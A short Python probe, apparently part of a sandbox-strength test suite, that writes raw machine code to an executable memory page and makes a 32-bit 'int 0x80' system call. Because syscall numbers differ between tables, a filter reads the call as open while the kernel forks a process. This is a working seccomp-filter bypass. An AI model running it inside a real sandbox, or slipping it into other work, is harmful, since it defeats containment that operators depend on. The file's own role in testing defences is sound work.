"""Reach out or persist: makes 32-bit system calls by `int 0x80`, whose numbers mean other calls than a filter thinks.

breaches: process
"""

import ctypes
import mmap
import os
import platform

FORK = b"\xb8\x02\0\0\0\xcd\x80\xc3"  # mov eax, 2; int 0x80; ret: fork on i386, open on x86-64


def breach():
    if platform.machine() != "x86_64":
        return False
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(FORK)
    child = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    if child == 0:
        os._exit(0)
    return child > 0
